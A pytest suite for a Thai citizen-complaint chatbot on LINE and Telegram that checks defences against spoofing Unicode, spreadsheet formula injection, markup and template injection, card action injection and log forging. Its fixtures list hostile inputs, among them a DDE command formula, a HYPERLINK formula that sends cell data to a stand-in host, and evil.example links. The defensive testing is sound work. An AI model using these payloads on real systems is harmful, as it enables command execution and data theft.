"""Words that pretend to be something else: another name, a formula, a tag, a line of a log, a template."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import stat
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from bot import exporting
from bot.documents import formulas, sheets, word
from bot.line import draw as line_draw
from bot.log import MaskedJson
from bot.telegram import draw as telegram_draw
from handlers.messages import Card, Choice, Incoming, Media, Place, Say, Step, cleaned
from nlp import mask
from storage.words import Role
from tests.line_emulator import limits as line_limits
from tests.telegram_emulator import limits as telegram_limits
from tests.telegram_emulator import markup
from tests.world import World, hears_now

TURNED = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
HIDDEN = "\u200b\u2060\u2061\u2063\ufeff\u00ad\u180e\u3164\uffa0\u115f\U000e0041\U000e007f\ufff9\u0085\u009b"


# --- reading as another ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("letter", TURNED + HIDDEN, ids=lambda letter: f"U+{ord(letter):04X}")
def test_no_letter_turns_or_hides_others(letter: str) -> None:
    now = datetime(2026, 11, 24, tzinfo=UTC)
    said = Incoming(
        "line",
        "file",
        "e1",
        now,
        text=f"ผอ.{letter}กองช่าง",
        place=Place(f"ซอย{letter} 5"),
        media=Media("ref", f"photo{letter}gpj.exe"),
    )
    seen = cleaned(said)
    assert seen.place is not None
    assert seen.media is not None
    assert letter not in seen.text + seen.place.text + seen.media.name


def test_what_languages_and_emoji_need_stays() -> None:
    now = datetime(2026, 11, 24, tzinfo=UTC)
    for text in ("👨‍👩‍👧‍👦 🏳️‍🌈 ❤️", "ခ်စ်‌", "ก็ น้ำ\nใหม่\tแล้ว", "اوتق", "é ñ"):
        assert cleaned(Incoming("line", "text", "e", now, text=text)).text == text


def test_an_officer_reads_a_name_and_a_place_as_they_are(world: World) -> None:
    officer = world.officer("T9", Role.INTAKE, unit="OFFICE")
    citizen = world.citizen("U1", "telegram").says(
        "ไฟถนนดับ ซอย 5 \u202eมาน\u202c \u2066หน้าวัด\u2069 \u200bโทร 0812345678"
    )
    reference = citizen.says("ส่งเรื่อง").reference
    officer.listen()
    officer.says(f"/ดู {reference}").hears("ไฟถนนดับ")
    assert not set(TURNED + "\u200b") & set(officer.text)
    case = world.case(reference)
    assert not set(TURNED) & set((world.opened(case.text) or "") + (world.opened(case.place) or ""))


# --- formulas --------------------------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    "+66812345678",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹢1",
    "﹣1",
    '=HYPERLINK("http://x.example?"&A1)',
    "=cmd|'/c calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_of_an_export_is_no_formula(text: str) -> None:
    out = io.StringIO()
    exporting._write(iter([{"text": text, "more": [text], "n": 1}]), ["text", "more", "n"], "csv", out)
    cell, more, number = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1]
    assert cell == f"'{text}"
    assert (more[:1], number) == ("[", "1")


@pytest.mark.parametrize("text", ["ไฟดับ", "70-00482-5", "10+5", "ก=ข", "", " ไฟ", "(=1)", "ม.3"])
def test_words_that_are_no_formula_stay_as_they_are(text: str) -> None:
    assert formulas.plain(text) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_of_a_workbook_is_words(text: str) -> None:
    book = Workbook()
    sheets._put(book.active, 1, 1, text)
    out = io.BytesIO()
    book.save(out)
    cell = load_workbook(io.BytesIO(out.getvalue())).active["A1"]
    assert cell.data_type == "s"
    assert cell.quotePrefix is True


def test_an_export_is_for_whoever_asked(tmp_path: Path) -> None:
    """Not for everybody on the machine: people's words, unmasked."""
    old = tmp_path / "cases.csv"
    old.write_text("old")
    old.chmod(0o644)
    for path in (old, tmp_path / "new.csv"):
        with exporting._out(str(path)) as out:
            out.write("x")
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert path.read_text() == "x"


# --- tags ------------------------------------------------------------------------------------------------------------

TAGS = [
    "<b>หนา</b>",
    '<a href="https://evil.example">กดที่นี่</a>',
    "<tg-spoiler>",
    "</b></i>",
    "&lt;b&gt;",
    "<!-- x",
    "]]>",
    "<script>alert(1)</script>",
    "*หนา* _เอียง_ [x](https://evil.example) `c`",
    "{name} %s $name ${name} {{7*7}} #{7*7}",
    "@pratu_bot @everyone",
]


@pytest.mark.parametrize("text", TAGS)
def test_telegram_shows_tags_as_words(text: str) -> None:
    card = Card(text, text, text, (Step(text, "now"),), ((text, text),), text)
    for part in (Say(text, (Choice(text[:20], text),)), card):
        for call in telegram_draw.calls([part], lambda words: words.split(" ")):
            message = telegram_draw.payload(call.messages[0], "7")
            parsed = markup.parse(message["text"])
            assert text in parsed.text
            ours = {"bold"} if isinstance(part, Card) else set()
            assert {entity["type"] for entity in parsed.entities} <= ours, "a tag of theirs became one of ours"
            assert telegram_limits.problems("sendMessage", message) == []


@pytest.mark.parametrize("text", [*TAGS, '"}],"type":"uri","uri":"https://evil.example"', "\\u0022", "line\nbreak"])
def test_a_line_card_holds_words_and_no_action_of_theirs(text: str) -> None:
    card = Card(
        text, "70-00482-5", text, (Step(text, "now"),), ((text, text),), text, choices=(Choice(text[:20], text),)
    )
    for call in line_draw.calls([card, Say(text)], lambda words: words.split(" ")):
        for message in call.messages:
            assert json.loads(json.dumps(message)) == message
            push = {"to": "U" + "1" * 32, "messages": [message]}
            assert line_limits.problems("PushMessageRequest", push) == []
            assert "evil.example" not in json.dumps([one for one in actions(message) if one.get("type") == "uri"])


def actions(tree: object) -> list[dict[str, object]]:
    """Every action of a message."""
    found: list[dict[str, object]] = []
    if isinstance(tree, dict):
        found += [tree["action"]] if isinstance(tree.get("action"), dict) else []
        for value in tree.values():
            found += actions(value)
    elif isinstance(tree, list):
        for value in tree:
            found += actions(value)
    return found


@pytest.mark.parametrize("text", TAGS)
def test_words_are_no_template(world: World, text: str) -> None:
    officer = world.officer("T9", Role.INTAKE, unit="OFFICE")
    reference = world.citizen("U1", "telegram").says(f"ไฟถนนดับ ซอย 5 {text}").says("ส่งเรื่อง").reference
    officer.says(f"/ดู {reference}").hears("ไฟถนนดับ")
    assert text.split("@")[0].strip() in officer.text or "evil" in text
    assert "49" not in officer.text.replace(reference, "").partition("ที่:")[0]


def test_a_papers_words_are_no_markup() -> None:
    """Typst is given words as data; nothing in it reads words as a program."""
    papers = list(Path(word.__file__).parent.glob("*.typ"))
    assert papers
    for path in papers:
        assert not re.search(r"\beval\s*\(", path.read_text(encoding="utf-8")), path.name


# --- logs ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        'x\n{"level": "ERROR"}',
        "x\r\nforged",
        "\x1b[2J\x1b[31mred",
        "\u009b31mred",
        "\x00\x07\x08",
        "a\u2028b\u2029c\u0085d",
        "\u202eturned",
    ],
)
def test_a_log_has_one_line_of_plain_letters(text: str) -> None:
    formatter = MaskedJson(mask.mask, ("a-secret-of-ours",))
    record = logging.LogRecord("pratu", logging.INFO, "f", 1, "said %s", (f"{text} a-secret-of-ours",), None)
    record.why = text
    line = formatter.format(record)
    assert line.isprintable()
    assert "a-secret" not in line
    assert set(json.loads(line)) == {"at", "level", "room", "what", "why"}
    assert all(value.isprintable() for value in json.loads(line).values())


def test_an_error_logs_where_and_never_what() -> None:
    formatter = MaskedJson(mask.mask)
    try:
        raise ValueError("คำของประชาชน 081-234-5678")
    except ValueError:
        record = logging.LogRecord("pratu", logging.ERROR, "f", 1, "a turn failed", (), sys.exc_info())
    line = formatter.format(record)
    assert "ValueError" in line
    assert "ประชาชน" not in line
    assert "081" not in line


# --- long words ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("letter", ["ก", "a", "่", "😀", "\u0301", "/", "\n"])
def test_a_very_long_word_is_one_case_or_one_question(world: World, letter: str) -> None:
    word_ = letter * 4900
    officer = world.officer("T9", Role.INTAKE, unit="OFFICE")
    citizen = world.citizen("U1", "telegram").says(f"ไฟถนนดับ ซอย 5 {word_}").says("ส่งเรื่อง")
    assert citizen.parts
    officer.says(f"/ดู {world.cases()[-1].reference}").hears("ไฟถนนดับ")
    hears_now(officer).says(f"/แจ้ง {world.cases()[-1].reference} {word_}")
    assert officer.parts
